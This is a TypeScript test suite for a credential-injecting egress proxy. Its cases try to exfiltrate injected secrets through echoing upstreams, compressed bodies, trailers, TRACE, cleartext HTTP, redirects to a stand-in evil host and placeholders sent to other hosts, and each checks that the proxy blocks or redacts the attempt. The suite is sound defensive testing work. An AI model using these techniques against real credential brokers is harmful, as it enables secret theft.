/**
 * Credential exfiltration: the injector adds `Authorization: Bearer <injected
 * canary>` toward echo.attack.test (and reason/dead.attack.test), and holds
 * the env canary as the real value of the placeholder PH_TOKEN (for
 * echo.attack.test only). The program tries to get either back: echoed in
 * bodies, headers, gzip, WebSocket messages, status lines, error messages,
 * by redirects, TRACE, plain http, placeholders sent elsewhere, templates in
 * its own headers. The runner scans every byte the program printed or left
 * in /scratch for both canaries in any encoding; each case also checks what
 * the upstreams received.
 */

import assert from "node:assert/strict";
import {
  assertThrew,
  basePolicy,
  Corpus,
  ENV_CANARY,
  HOSTS,
  INJECT,
  INJECTED_CANARY,
  MARKER,
  NOT_CAPABLE,
  PLACEHOLDER_NAME,
  seenWith,
  statusLine,
  valueOf,
} from "./_corpus.ts";

/** Raw TLS upstreams that misbehave with the credential they receive. */
const RAW = {
  /** Returns the Authorization value in a chunked trailer. */
  trailer: "trailer.attack.test",
  /** Labels a plain echo of the Authorization value as gzip. */
  liar: "liar.attack.test",
  /** Redirects to other.attack.test with the credential in the URL. */
  bounce: "bounce.attack.test",
};

const authOf = (head: string) =>
  head.match(/\r\nauthorization: *([^\r]*)/i)?.[1] ?? "";

const corpus = new Corpus("credentials", {
  setup: async (fx) => {
    for (const name of Object.values(RAW)) fx.credentialed.add(name);
    await fx.ups.addRaw(
      RAW.trailer,
      (head) =>
        `HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\nConnection: close\r\n\r\n2\r\nok\r\n0\r\nX-Echo: ${
          authOf(head)
        }\r\n\r\n`,
    );
    await fx.ups.addRaw(RAW.liar, (head) => {
      const body = `auth=${authOf(head)}`;
      return `HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
    });
    await fx.ups.addRaw(
      RAW.bounce,
      (head) =>
        `HTTP/1.1 302 Found\r\nLocation: https://${HOSTS.other}/cr-026-landed?auth=${
          encodeURIComponent(authOf(head))
        }\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
    );
  },
});
corpus.batch("raw", {
  policy: (fx) => {
    const base = basePolicy(fx);
    const network = base.network as { allow: Record<string, unknown> };
    return {
      ...base,
      network: {
        allow: {
          ...network.allow,
          [RAW.trailer]: INJECT,
          [RAW.liar]: INJECT,
          [RAW.bounce]: INJECT,
        },
      },
    } as ReturnType<typeof basePolicy>;
  },
});

interface Fetched {
  status: number;
  airlockError: string | null;
  headers: Record<string, string>;
  body: string;
}

const fetchCode = (url: string, init: RequestInit = {}) =>
  `return await fetchText(${JSON.stringify(url)}, ${JSON.stringify(init)});`;

/** The one request an upstream saw for `marker`, with its headers. */
function onlyRequest(
  fx: Parameters<typeof seenWith>[0],
  marker: string,
  host?: string,
) {
  const seen = seenWith(fx, marker).filter((s) =>
    host === undefined || s.host === host
  );
  assert.equal(seen.length, 1, `requests for ${marker}: ${seen.length}`);
  return seen[0]!;
}

const auths = (headers: [string, string][]) =>
  headers.filter(([n]) => n === "authorization").map(([, v]) => v);

corpus.add({
  id: "cr-001",
  title: "read the injected Authorization back from an echoing upstream's body",
  code: fetchCode(`https://${HOSTS.echo}/cr-001`),
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    assert.equal(got.status, 200);
    const echo = JSON.parse(got.body) as { headers: [string, string][] };
    assert.deepEqual(auths(echo.headers), [MARKER]);
    assert.deepEqual(auths(onlyRequest(v.fx, "/cr-001").headers), [
      `Bearer ${INJECTED_CANARY}`,
    ], "positive control: the upstream got the real credential");
  },
  audit: {
    injector: { kind: "secret-echo", path: "/cr-001", decisions: ["allow"] },
  },
});
corpus.add({
  id: "cr-002",
  title: "read the injected header echoed in a response header",
  code: fetchCode(`https://${HOSTS.echo}/cr-002`),
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    assert.equal(got.headers["x-echo-authorization"], MARKER);
  },
  audit: {
    injector: { kind: "secret-echo", path: "/cr-002", decisions: ["allow"] },
  },
});
corpus.add({
  id: "cr-003",
  title: "read the injected header echoed inside a gzip-compressed body",
  code: fetchCode(`https://${HOSTS.echo}/gzip-cr-003`),
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    assert.equal(got.status, 200);
    assert.ok(got.body.includes(MARKER), got.body.slice(0, 300));
  },
  audit: {
    injector: {
      kind: "secret-echo",
      path: "/gzip-cr-003",
      decisions: ["allow"],
    },
  },
});
corpus.add({
  id: "cr-004",
  title:
    "read the credential quoted in the upstream's status line (reason phrase)",
  code: `const https = (await import("node:https")).default;
    const node = await new Promise((resolve, reject) => {
      https.get("https://${HOSTS.reason}/cr-004", (res) => {
        res.resume();
        res.on("end", () => resolve({ status: res.statusCode, reason: res.statusMessage }));
      }).on("error", reject);
    });
    const raw = await rawProxy("GET /cr-004-raw HTTP/1.1\\r\\nHost: ${HOSTS.reason}\\r\\n\\r\\n", { connect: "${HOSTS.reason}:443", tls: "${HOSTS.reason}" });
    return { node, statusLine: raw.response.split("\\r\\n")[0] };`,
  expect: (v) => {
    const got = valueOf<
      { node: { status: number; reason: string }; statusLine: string }
    >(v);
    assert.equal(got.node.status, 401);
    assert.equal(got.node.reason, "Unauthorized");
    assert.equal(got.statusLine, "HTTP/1.1 401 Unauthorized");
  },
  // The exchange is recorded with the header injected; the reason phrase
  // is never relayed (so there is nothing to redact).
  audit: {
    injector: {
      host: HOSTS.reason,
      path: "/cr-004",
      injected: ["authorization"],
      status: 401,
      decisions: ["allow"],
    },
  },
});
corpus.add({
  id: "cr-005",
  title: "follow a redirect from the credentialed host to another allowed host",
  code: fetchCode(
    `https://${HOSTS.echo}/redirect?to=https://${HOSTS.other}/cr-005-landed`,
  ),
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    assert.equal(got.status, 200);
    const landed = onlyRequest(v.fx, "/cr-005-landed", HOSTS.other);
    assert.equal(landed.host, HOSTS.other);
    assert.deepEqual(auths(landed.headers), [], "no credential followed");
  },
  audit: {
    injector: {
      host: HOSTS.other,
      path: "/cr-005-landed",
      injected: [],
      decisions: ["allow"],
    },
  },
});
corpus.add({
  id: "cr-006",
  title: "follow a redirect from the credentialed host to a disallowed host",
  code: fetchCode(
    `https://${HOSTS.echo}/redirect?to=https://${HOSTS.evil}/cr-006`,
  ),
  expect: (v) => void assertThrew(v, NOT_CAPABLE),
  audit: { broker: "net", value: `${HOSTS.evil}:443` },
});
corpus.add({
  id: "cr-007",
  title: "TRACE to the credentialed host (cross-site tracing echoes headers)",
  code:
    `return await rawProxy("TRACE /cr-007 HTTP/1.1\\r\\nHost: ${HOSTS.echo}\\r\\n\\r\\n", { connect: "${HOSTS.echo}:443", tls: "${HOSTS.echo}" });`,
  expect: (v) => {
    const raw = valueOf<{ response: string }>(v);
    assert.equal(statusLine(raw.response), 405, raw.response);
    assert.deepEqual(seenWith(v.fx, "/cr-007"), []);
  },
  audit: { injector: { host: HOSTS.echo, rule: "trace", status: 405 } },
});
corpus.add({
  id: "cr-008",
  title:
    "make the credentialed upstream fail and read every error the program gets",
  code: `const r = await fetch("https://${HOSTS.dead}/cr-008");
    return { status: r.status, headers: Object.fromEntries(r.headers), body: await r.text() };`,
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    assert.equal(got.status, 502);
    assert.equal(got.headers["x-airlock-error"], "upstream-error");
  },
  audit: { injector: { host: HOSTS.dead, path: "/cr-008", status: 502 } },
});
corpus.add({
  id: "cr-009",
  title:
    "get the credential back in a body coding the echo guard cannot read (zstd)",
  code: fetchCode(`https://${HOSTS.echo}/zstd-echo?cr-009`),
  expect: (v) => {
    const outcome = v.outcome;
    assert.ok(outcome);
    if (outcome.ok) {
      const got = outcome.value as Fetched;
      assert.equal(got.status, 502, JSON.stringify(got));
    }
  },
  audit: {
    injector: { host: HOSTS.echo, path: /zstd-echo/, status: 502 },
  },
});
corpus.add({
  id: "cr-010",
  title: "send the placeholder to an allowed host it is not meant for",
  code: `const token = Deno.env.get("${PLACEHOLDER_NAME}");
    const got = await fetchText("https://${HOSTS.other}/cr-010", { headers: { authorization: "token " + token, "x-token": token } });
    return { token, got };`,
  expect: (v) => {
    const { token } = valueOf<{ token: string }>(v);
    assert.match(token, /^airlock-placeholder-PH_TOKEN-[0-9a-f]{32}$/);
    const seen = onlyRequest(v.fx, "/cr-010");
    assert.deepEqual(auths(seen.headers), [`token ${token}`]);
  },
  audit: {
    injector: {
      host: HOSTS.other,
      path: "/cr-010",
      placeholders: [],
      injected: [],
      decisions: ["allow"],
    },
  },
});
corpus.add({
  id: "cr-011",
  title: "send the placeholder to its own host and read the swapped value back",
  code: `const token = Deno.env.get("${PLACEHOLDER_NAME}");
    return await fetchText("https://${HOSTS.echo}/cr-011", { headers: { "x-token": token } });`,
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    const echo = JSON.parse(got.body) as { headers: [string, string][] };
    assert.deepEqual(
      echo.headers.filter(([n]) => n === "x-token").map(([, x]) => x),
      [MARKER],
    );
    // Positive control: the env canary really is the placeholder's value.
    const seen = onlyRequest(v.fx, "/cr-011");
    assert.deepEqual(
      seen.headers.filter(([n]) => n === "x-token").map(([, x]) => x),
      [ENV_CANARY],
    );
  },
  audit: {
    injector: { kind: "secret-echo", path: "/cr-011", decisions: ["allow"] },
  },
});
corpus.add({
  id: "cr-012",
  title:
    "ask the injector to expand secret templates in the program's own headers",
  code: `return await fetchText("https://${HOSTS.other}/cr-012", { headers: {
      authorization: "Bearer \${secret:CANARY}",
      "x-env": "\${env:AIRLOCK_ATTACK_CANARY}",
    } });`,
  expect: (v) => {
    valueOf(v);
    const seen = onlyRequest(v.fx, "/cr-012");
    assert.deepEqual(auths(seen.headers), ["Bearer ${secret:CANARY}"]);
  },
  audit: {
    injector: {
      host: HOSTS.other,
      path: "/cr-012",
      injected: [],
      decisions: ["allow"],
    },
  },
});
corpus.add({
  id: "cr-013",
  title:
    "set the credential header itself to lookalike values (other case, duplicates) next to the injected one",
  code:
    `return await rawProxy("GET /cr-013 HTTP/1.1\\r\\nHost: ${HOSTS.echo}\\r\\nAuthorization: Bearer atk+inj/lookalike\\r\\nAUTHORIZATION: Basic YXR0YWNrZXI=\\r\\nauthorization: Bearer second\\r\\n\\r\\n", { connect: "${HOSTS.echo}:443", tls: "${HOSTS.echo}" });`,
  expect: (v) => {
    const raw = valueOf<{ response: string }>(v);
    assert.equal(statusLine(raw.response), 200, raw.response);
    const seen = onlyRequest(v.fx, "/cr-013");
    assert.deepEqual(auths(seen.headers), [`Bearer ${INJECTED_CANARY}`]);
    assert.ok(!raw.response.includes("lookalike"), "every copy replaced");
  },
  audit: {
    injector: { kind: "secret-echo", path: "/cr-013", decisions: ["allow"] },
  },
});
corpus.add({
  id: "cr-014",
  title:
    "request the credentialed host over plain http (credential in cleartext)",
  code: fetchCode(`http://${HOSTS.echo}/cr-014`),
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    assert.equal(got.status, 403);
    assert.equal(got.airlockError, "cleartext-credentials");
    assert.deepEqual(seenWith(v.fx, "/cr-014"), []);
  },
  audit: { injector: { host: HOSTS.echo, path: "/cr-014", status: 403 } },
});
corpus.add({
  id: "cr-015",
  title: "have a WebSocket upstream send the credential back as a message",
  code: `return await new Promise((resolve, reject) => {
      const ws = new WebSocket("wss://${HOSTS.echo}/ws");
      ws.onopen = () => ws.send("auth");
      ws.onmessage = (e) => { ws.close(); resolve(String(e.data)); };
      ws.onerror = (e) => reject(new Error("websocket error: " + (e.message ?? e.type)));
    });`,
  expect: (v) => assert.equal(valueOf<string>(v), MARKER),
  audit: {
    injector: { kind: "secret-echo", path: "/ws", decisions: ["allow"] },
  },
});
corpus.add({
  id: "cr-016",
  title: "read the bare token (without 'Bearer') from an error page",
  code: fetchCode(`https://${HOSTS.echo}/bare-token?cr-016`),
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    assert.equal(got.status, 401);
    assert.equal(got.body, `token ${MARKER} is not valid for this endpoint\n`);
  },
  audit: {
    injector: { kind: "secret-echo", path: /bare-token/, decisions: ["allow"] },
  },
});
corpus.add({
  id: "cr-017",
  title: "read the credential dripped one byte per chunk",
  code: fetchCode(`https://${HOSTS.echo}/drip?cr-017`),
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    assert.equal(got.body, `auth=${MARKER};`);
  },
  audit: {
    injector: { kind: "secret-echo", path: /drip/, decisions: ["allow"] },
  },
});
corpus.add({
  id: "cr-018",
  title: "ask for a byte range of the echo to slice the credential",
  code: fetchCode(`https://${HOSTS.echo}/cr-018`, {
    headers: { range: "bytes=60-75", "if-range": "x" },
  }),
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    assert.equal(got.status, 200);
    const seen = onlyRequest(v.fx, "/cr-018");
    assert.equal(seen.headers.find(([n]) => n === "range"), undefined);
  },
  audit: {
    injector: { kind: "secret-echo", path: "/cr-018", decisions: ["allow"] },
  },
});
corpus.add({
  id: "cr-019",
  title: "read the echoed credential through node:https (the Node client path)",
  code: `const https = (await import("node:https")).default;
    return await new Promise((resolve, reject) => {
      https.get("https://${HOSTS.echo}/cr-019", (res) => {
        let body = "";
        res.on("data", (d) => body += d);
        res.on("end", () => resolve({ status: res.statusCode, header: res.headers["x-echo-authorization"], body }));
      }).on("error", reject);
    });`,
  expect: (v) => {
    const got = valueOf<{ status: number; header: string }>(v);
    assert.equal(got.status, 200);
    assert.equal(got.header, MARKER);
  },
  audit: {
    injector: { kind: "secret-echo", path: "/cr-019", decisions: ["allow"] },
  },
});
corpus.add({
  id: "cr-020",
  title: "put the placeholder in the URL query and body toward its own host",
  code: `const token = Deno.env.get("${PLACEHOLDER_NAME}");
    return await fetchText("https://${HOSTS.echo}/cr-020?t=" + token, { method: "POST", body: "body:" + token });`,
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    assert.equal(got.status, 200);
    const seen = onlyRequest(v.fx, "/cr-020");
    assert.match(seen.path, /t=airlock-placeholder-PH_TOKEN-/);
    assert.match(seen.body, /^body:airlock-placeholder-PH_TOKEN-/);
  },
  audit: {
    injector: {
      host: HOSTS.echo,
      path: "/cr-020?t=<redacted>",
      placeholders: [],
      decisions: ["allow"],
    },
  },
});
corpus.add({
  id: "cr-021",
  title: "HEAD request to read the echoed credential header without a body",
  code: fetchCode(`https://${HOSTS.echo}/cr-021`, { method: "HEAD" }),
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    assert.equal(got.headers["x-echo-authorization"], MARKER);
  },
  audit: {
    injector: { kind: "secret-echo", path: "/cr-021", decisions: ["allow"] },
  },
});
corpus.add({
  id: "cr-022",
  title: "write everything received from the echo into /scratch for later",
  code: `const r = await fetchText("https://${HOSTS.echo}/cr-022");
    await Deno.writeTextFile("/scratch/cr-022.json", JSON.stringify(r));
    return (await Deno.stat("/scratch/cr-022.json")).size;`,
  expect: (v) => {
    assert.ok(valueOf<number>(v) > 0);
    // The runner scans /scratch for both canaries in every encoding.
  },
  audit: {
    injector: { kind: "secret-echo", path: "/cr-022", decisions: ["allow"] },
  },
});

corpus.add({
  id: "cr-023",
  title: "plain HTTP inside a CONNECT tunnel to the credentialed host",
  code:
    `return await rawProxy("GET /cr-023 HTTP/1.1\\r\\nHost: ${HOSTS.echo}:443\\r\\n\\r\\n", { connect: "${HOSTS.echo}:443" });`,
  expect: (v) => {
    const raw = valueOf<{ response: string }>(v);
    assert.equal(statusLine(raw.response), 403, raw.response);
    assert.match(raw.response, /X-Airlock-Error: cleartext-credentials/);
    assert.deepEqual(seenWith(v.fx, "/cr-023"), []);
  },
  audit: { injector: { host: HOSTS.echo, path: "/cr-023", status: 403 } },
});

// --- Upstreams that misbehave with the credential ---

corpus.add({
  id: "cr-024",
  batch: "raw",
  title: "the upstream returns the credential in a chunked trailer",
  code:
    `return await rawProxy("GET /cr-024 HTTP/1.1\\r\\nHost: ${RAW.trailer}\\r\\n\\r\\n", { connect: "${RAW.trailer}:443", tls: "${RAW.trailer}" });`,
  expect: (v) => {
    const raw = valueOf<{ response: string }>(v);
    assert.ok(
      [200, 502].includes(statusLine(raw.response) ?? 0),
      raw.response,
    );
  },
  audit: {
    injector: {
      host: RAW.trailer,
      path: "/cr-024",
      decisions: ["allow", "error"],
      injected: ["authorization"],
    },
  },
});
corpus.add({
  id: "cr-025",
  batch: "raw",
  title: "the upstream labels a plain echo of the credential as gzip",
  code: fetchCode(`https://${RAW.liar}/cr-025`),
  expect: (v) => {
    // Refused (502) or cut off: either way the scan finds no canary.
    const outcome = v.outcome;
    assert.ok(outcome);
    if (outcome.ok) {
      const got = outcome.value as Fetched;
      assert.ok(!got.body.startsWith("auth="), got.body);
    }
  },
  audit: {
    injector: {
      host: RAW.liar,
      path: "/cr-025",
      decisions: ["error", "allow"],
    },
  },
});
corpus.add({
  id: "cr-026",
  batch: "raw",
  title:
    "the upstream redirects to another allowed host with the credential in the URL, and the program follows",
  code: fetchCode(`https://${RAW.bounce}/cr-026`),
  expect: (v) => {
    const got = valueOf<Fetched>(v);
    assert.equal(got.status, 200);
    const landed = onlyRequest(v.fx, "/cr-026-landed", HOSTS.other);
    assert.ok(!landed.path.includes("atk"), landed.path);
    assert.match(decodeURIComponent(landed.path), /\[airlock:redacted\]/);
  },
  audit: {
    injector: { kind: "secret-echo", host: RAW.bounce, decisions: ["allow"] },
  },
});

corpus.register();
